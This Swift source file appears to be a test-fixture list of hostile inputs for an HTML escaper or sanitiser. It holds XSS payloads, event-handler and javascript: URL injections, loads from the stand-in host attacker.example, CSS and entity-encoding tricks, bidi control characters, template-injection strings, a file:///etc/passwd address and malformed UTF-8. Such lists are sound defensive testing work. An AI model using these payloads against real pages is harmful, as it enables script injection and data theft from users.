/// Texts that have broken out of somebody's page, as bytes, because some of them are no text (case 67).
///
/// Whatever script, request or navigation they would start goes by the names `marked`, `ran` and `attacker.example`.
enum HostileText {
    static let all: [[UInt8]] =
        (elements + endings + attributes + addresses + styles + references + signs + long).map { Array($0.utf8) }
        + broken

    /// Elements that would run, load or go somewhere.
    private static let elements = [
        "<script>marked=1;alert(1)</script>", "<SCRIPT SRC=//attacker.example/x.js></SCRIPT>",
        "<script>ran('script')", "<scr<script>ipt>marked=1</scr</script>ipt>", "<script/x>marked=1</script/x>",
        "<svg onload=\"marked=1\">", "<svg><script>marked=1</script></svg>", "<svg/onload=marked=1>",
        "<svg><animate onbegin=marked=1 attributeName=x dur=1s>", "<svg><use href='data:image/svg+xml,<svg/>'/></svg>",
        "<math><mi xlink:href='javascript:marked=1'>x</mi></math>", "<img src=x onerror=marked=1>",
        "<img src=https://attacker.example/pixel.gif>", "\u{600}<img src=x onerror=marked=1>",
        "<image href=http://attacker.example/i>", "<video src=http://attacker.example/v autoplay onloadstart=marked=1>",
        "<iframe src=\"javascript:marked=1\"></iframe>", "<iframe srcdoc=\"<script>parent.marked=1</script>\">",
        "<object data=\"http://attacker.example/o\"></object>", "<embed src=http://attacker.example/e>",
        "<meta http-equiv=refresh content=\"0;url=http://attacker.example/\">",
        "<meta http-equiv=\"Content-Security-Policy\" content=\"script-src *\">",
        "<base href=\"http://attacker.example/\">",
        "<link rel=stylesheet href=http://attacker.example/a.css>",
        "<link rel=prefetch href=http://attacker.example/p>",
        "<form action=http://attacker.example/><input autofocus onfocus=marked=1><button>x</button></form>",
        "<details open ontoggle=marked=1>", "<marquee onstart=marked=1>", "<body onload=marked=1>",
        "<a href=http://attacker.example/ autofocus onfocus=marked=1 tabindex=1>x</a>", "<template><b>", "<plaintext>",
        "<noscript><p title=\"</noscript><img src=x onerror=marked=1>\">", "<portal src=http://attacker.example/>",
    ]

    /// Ends of what the text stands in.
    private static let endings = [
        "</title><svg onload=marked=1>", "</style><script>marked=1</script>", "</textarea><b>", "</svg><b>",
        "</desc></svg><img src=x onerror=marked=1>", "</bdi></td></tr></table><b>", "</summary></details><b>",
        "</main></body></html><script>marked=1</script>", "<!--", "-->", "--!><img src=x onerror=marked=1>",
        "<!--><script>marked=1</script>", "]]>", "<![CDATA[<b>]]>", "<?php echo 1 ?>", "<!DOCTYPE html>", "<", "</",
        "<!",
        "<b", "<a href='", "<bdi>",
    ]

    /// Ends of the attribute that the text stands in.
    private static let attributes = [
        "\" onmouseover=\"marked=1", "' onfocus='marked=1' autofocus='", "a\"\u{301} onmouseover=marked=1 ",
        "'\u{301} onclick=marked=1 x='", "\"><img src=x onerror=marked=1>", "'><b>", "`onmouseover=marked=1",
        "x onmouseover=marked=1", "\" style=\"background:url(http://attacker.example/s)", "\" tabindex=\"9",
        "\u{1680}onload=marked=1", "/onload=marked=1", "\" id=\"content",
    ]

    /// Addresses that must not become links.
    private static let addresses = [
        "javascript:marked=1", "JaVaScRiPt:marked=1", "java\tscript:marked=1", "\u{1}javascript:marked=1",
        "javascript://attacker.example/%0Amarked=1", "vbscript:marked=1", "data:text/html,<script>marked=1</script>",
        "data:text/html;base64,PHNjcmlwdD5tYXJrZWQ9MTwvc2NyaXB0Pg==", "http://attacker.example/", "//attacker.example/",
        "https://attacker.example\" onclick=\"marked=1", "https://attacker.example/<script>marked=1</script>",
        "https://user@attacker.example", "file:///etc/passwd", "blob:null/1", "\\\\attacker.example\\share",
    ]

    /// Style that would load something.
    private static let styles = [
        "<style>@import url(http://attacker.example/a.css);</style>", "@import 'http://attacker.example/a.css';",
        "background:url(http://attacker.example/b)", "} * { background: url(http://attacker.example/c) } {",
        "<b style=\"background:url(http://attacker.example/d)\">", "expression(marked=1)",
        "/* */ } body { display: none }",
    ]

    /// References that must not be resolved twice, or at all.
    private static let references = [
        "&lt;script&gt;marked=1&lt;/script&gt;", "&#60;script&#62;marked=1&#60;/script&#62;", "&#x3c;b&#x3e;", "&lt",
        "&amp;lt;b&amp;gt;", "&\u{301}lt;", "%3Cscript%3Emarked=1%3C/script%3E", "\\u003cscript\\u003e",
        "+ADw-script+AD4-",
        "&#0;", "&quot;onload=marked=1", "${marked=1}", "{{constructor.constructor('marked=1')()}}",
    ]

    /// Signs that change how what stands beside them reads.
    private static let signs = [
        "\u{202E}gpj.exe", "\u{202D}\u{2066}\u{2067}", "\u{2069}\u{202C}x", "\u{200F}abc\u{200E}", "<\u{338}b>",
        ">\u{301}",
        "\u{FEFF}<b>", "\u{0}<b>", "<\u{0}script>marked=1</script>", "\u{B}\u{C}<b>", "\u{1B}[2J\u{7F}",
        "\u{85}\u{2028}",
        "\u{FF1C}script\u{FF1E}", "\u{2039}b\u{203A}", "\u{E0001}\u{E0041}", "e\u{301}\u{327}\u{20DD}",
        "\u{10FFFF}\u{FFFE}",
        "line\r\nline\rline\n<b>",
    ]

    /// Texts that would push the page apart.
    private static let long = [
        String(repeating: "Donaudampfschifffahrt", count: 200), String(repeating: "<b>", count: 300),
        String(repeating: "\u{301}", count: 400), String(repeating: "\u{202E}", count: 50),
    ]

    /// Bytes that are no UTF-8: over-long signs, halves, lone surrogates, what Latin-1 and UTF-16 leave (case 63).
    private static let broken: [[UInt8]] = [
        [0xC0, 0xBC, 0x62, 0x3E], [0xE0, 0x80, 0xBC, 0x62], [0x3C, 0xFF, 0x62, 0x3E],
        [0xED, 0xA0, 0x80, 0x3C, 0x62, 0x3E],
        [0xED, 0xB0, 0x80], [0xC3, 0x3C, 0x62, 0x3E], [0xF0, 0x9F, 0x98, 0x3C, 0x69, 0x6D, 0x67, 0x3E],
        [0x3C, 0x00, 0x62, 0x00, 0x3E, 0x00], [0xFE, 0xFF, 0x00, 0x3C], [0xE2, 0x80, 0x22, 0x20, 0x6F, 0x6E],
    ]

    /// A text of the same length that could do nothing, for the same page without danger.
    static func harmless(like bytes: [UInt8]) -> [UInt8] {
        String(decoding: bytes, as: UTF8.self).unicodeScalars.map { sign in
            sign.properties.isAlphabetic && sign.isASCII ? UInt8(ascii: sign) : UInt8(ascii: "x")
        }
    }
}
